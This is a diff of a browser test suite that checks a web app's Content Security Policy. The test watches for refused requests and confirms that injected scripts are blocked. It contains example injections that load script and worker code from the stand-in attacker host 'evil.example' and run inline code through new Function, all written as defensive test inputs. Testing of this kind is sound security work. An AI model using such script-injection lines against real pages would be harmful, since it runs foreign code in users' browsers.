@@ -4,6 +4,7 @@ import { expect, test } from 'vitest';
 import { keepSelfMade } from '../../broker/tls/self-made.ts';
 import { invitationLink } from '../../deploy/access-options.ts';
 import { testFolder } from '../helpers/certificates.ts';
+import { eventually } from '../helpers/eventually.ts';
 import { testVehicle } from '../helpers/room.ts';
 import { live, usePages } from './browser.ts';
 
@@ -15,18 +16,34 @@ interface Violation {
   sample: string;
 }
 
+/** Where no page may connect to. */
+const ELSEWHERE = 'https://elsewhere.invalid/';
+
 /** A page that keeps what its policy has refused, over all addresses that it visits. */
 async function watchedPage(options: Parameters<typeof pages.open>[1] = {}) {
   const page = await pages.open('about:blank', options);
   const refused: Violation[] = [];
-  await page.exposeFunction('keepViolation', (violation: Violation) => refused.push(violation));
+  const watchers = new Set<() => void>();
+  await page.exposeFunction('keepViolation', (violation: Violation) => {
+    refused.push(violation);
+    for (const watcher of [...watchers]) watcher();
+  });
   await page.addInitScript(() => {
     addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
       const violation = { directive: effectiveDirective, blocked: blockedURI, sample };
       void (window as unknown as { keepViolation(kept: Violation): void }).keepViolation(violation);
     });
   });
-  return { page, refused };
+  return {
+    page,
+    /** All until now: something is asked for that must be refused, and comes last. */
+    async refused(): Promise<Violation[]> {
+      await page.evaluate((url) => void fetch(url).catch(() => {}), ELSEWHERE);
+      const last = () => refused.findIndex(({ blocked }) => blocked.startsWith(ELSEWHERE));
+      const found = () => (last() < 0 ? undefined : refused.slice(0, last()));
+      return eventually(watchers, found, () => 'nothing was refused that had to be');
+    },
+  };
 }
 
 /** Every page, doing what it does. */
@@ -48,7 +65,7 @@ async function visitAll(page: Page, url: string): Promise<void> {
     .first()
     .waitFor();
   await page.goto(`${url}/timeline`);
-  await page.getByRole('heading', { name: 'Timeline' }).waitFor();
+  await page.getByRole('heading', { name: 'Timeline', exact: true }).waitFor();
   await page.goto(`${url}/no/such/page`);
   await page.getByRole('heading', { name: 'There is no such page' }).waitFor();
 }
@@ -58,7 +75,7 @@ test('all pages work, and none asks for anything that it may not have', async ()
   await testVehicle(server.mqttUrl);
   const { page, refused } = await watchedPage({ viewport: { width: 1400, height: 900 } });
   await visitAll(page, server.webUrl);
-  expect(refused).toEqual([]);
+  expect(await refused()).toEqual([]);
 });
 
 test('the same over https and wss, with a certificate that the server has made itself', async () => {
@@ -70,7 +87,7 @@ test('the same over https and wss, with a certificate that the server has made i
     viewport: { width: 1400, height: 900 },
   });
   await visitAll(page, server.webUrl);
-  expect(refused).toEqual([]);
+  expect(await refused()).toEqual([]);
   expect(await page.evaluate(() => isSecureContext)).toBe(true);
 });
 
@@ -94,7 +111,7 @@ test('a phone becomes the car and somebody drives it, both by invitation, over h
   const operator = await comeIn('operator', '*');
   await operator.page.getByRole('link', { name: /\bphone1\b/ }).click();
   await live(operator.page);
-  expect([...phone.refused, ...operator.refused]).toEqual([]);
+  expect([await phone.refused(), await operator.refused()]).toEqual([[], []]);
 });
 
 test('a script that somebody got into the page does not run, whichever way it came in', async () => {
@@ -130,12 +147,11 @@ test('a script that somebody got into the page does not run, whichever way it ca
       source: problem(() => {
         script.src = 'https://evil.example/x.js';
       }),
-      code: problem(() => new Function('window.got = 3')()),
+      // In a turn of the page's own: what a debugger runs may do this.
+      code: await new Promise((resolve) => {
+        setTimeout(() => resolve(problem(() => new Function('window.got = 3')())));
+      }),
       worker: problem(() => new Worker('https://evil.example/x.js')),
-      elsewhere: await fetch('https://evil.example/').then(
-        () => 'it went through',
-        (error: Error) => error.name,
-      ),
       got: (window as unknown as { got?: unknown }).got,
     };
   });
@@ -145,11 +161,10 @@ test('a script that somebody got into the page does not run, whichever way it ca
     source: 'TypeError',
     code: 'EvalError',
     worker: 'TypeError',
-    elsewhere: 'TypeError',
   });
-  const directives = new Set(refused.map(({ directive }) => directive));
-  expect([...directives]).toEqual(
-    expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']),
+  const directives = (await refused()).map(({ directive }) => directive);
+  expect(directives).toEqual(
+    expect.arrayContaining(['script-src-elem', 'script-src-attr', 'require-trusted-types-for']),
   );
 });
 
